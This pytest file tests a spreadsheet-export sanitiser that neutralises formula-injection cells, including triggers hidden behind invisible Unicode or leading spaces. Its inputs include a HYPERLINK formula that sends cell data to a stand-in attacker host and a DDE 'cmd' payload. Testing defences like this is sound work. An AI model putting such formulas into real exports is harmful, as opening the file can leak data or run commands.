"""chotdon.sheets: no export cell is ever a live formula, and CSV reads back exactly."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from chotdon.sheets import append_row, needs_quote, safe_cell, unquote_cell

TRIGGERS = ["=", "+", "-", "@"]
# Zero-width, BOM, word joiner, bidi marks/embeddings/isolates, soft hyphen.
INVISIBLE = [
    "\u200b", "\u200c", "\u200d", "\ufeff", "\u2060", "\u200e", "\u200f",
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
    "\u2066", "\u2067", "\u2068", "\u2069", "\u00ad",
]  # fmt: skip
SPACES = [" ", "  ", "\u00a0", "\u3000", "\n", " \u200b "]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'


def _csv_line(values: list[Any]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([safe_cell(v) for v in values])
    return out.getvalue()


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_each_trigger_is_quoted(trigger: str) -> None:
    text = f"{trigger}1+1"
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text


@pytest.mark.parametrize("first", ["\t", "\r"])
def test_tab_or_carriage_return_first_is_quoted(first: str) -> None:
    assert safe_cell(f"{first}abc") == f"'{first}abc"


@pytest.mark.parametrize("mark", INVISIBLE)
@pytest.mark.parametrize("trigger", TRIGGERS)
def test_invisible_mark_before_a_trigger_is_quoted(mark: str, trigger: str) -> None:
    text = f"{mark}{trigger}cmd|' /C calc'!A0"
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text


@pytest.mark.parametrize("space", SPACES)
def test_leading_whitespace_before_a_trigger_is_quoted(space: str) -> None:
    assert safe_cell(space + HYPERLINK) == "'" + space + HYPERLINK


@pytest.mark.parametrize(
    "text",
    ["Hạt dẻ Ngân Sơn", "0977123456", "a=b", "x-1", "email@x.vn", "", " ", "\u200b", "'", "'a"],
)
def test_ordinary_text_is_untouched(text: str) -> None:
    assert not needs_quote(text)
    assert safe_cell(text) == text
    assert unquote_cell(text) == text


@pytest.mark.parametrize("value", [0, 150000, -5, -1.5, 2.25, None, True])
def test_numbers_and_non_text_stay_as_they_are(value: Any) -> None:
    assert safe_cell(value) is value
    assert _csv_line([value, "-5"]) == f"{'' if value is None else value},'-5\n"


@pytest.mark.parametrize(
    "text", ["'=x", "''=x", "'\u200b@x", "' -1", "'x", "''", "=", "'", "\u200b'=x"]
)
def test_csv_round_trip_is_exact_even_for_apostrophes(text: str) -> None:
    (read,) = next(csv.reader(io.StringIO(_csv_line([text]))))
    assert unquote_cell(read) == text


def test_already_quoted_looking_text_gets_a_second_apostrophe() -> None:
    assert safe_cell("'=x") == "''=x"
    assert unquote_cell("''=x") == "'=x"
    assert unquote_cell("'=x") == "=x"


@pytest.mark.parametrize(
    "text", [HYPERLINK, "\u200b=1+1", " =SUM(A1:A9)", "\u202e@cmd", "-2+3", "+84 977", "'=x"]
)
def test_xlsx_text_is_a_string_cell_without_apostrophe(text: str) -> None:
    workbook = Workbook()
    sheet = workbook.active
    append_row(sheet, ["A1", text, 150000, -5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    for read_only in (False, True):
        back = load_workbook(io.BytesIO(buffer.getvalue()), read_only=read_only)
        cells = next(back.worksheets[0].iter_rows())
        assert [c.data_type for c in cells] == ["s", "s", "n", "n"]
        assert [c.value for c in cells] == ["A1", text, 150000, -5]
        back.close()
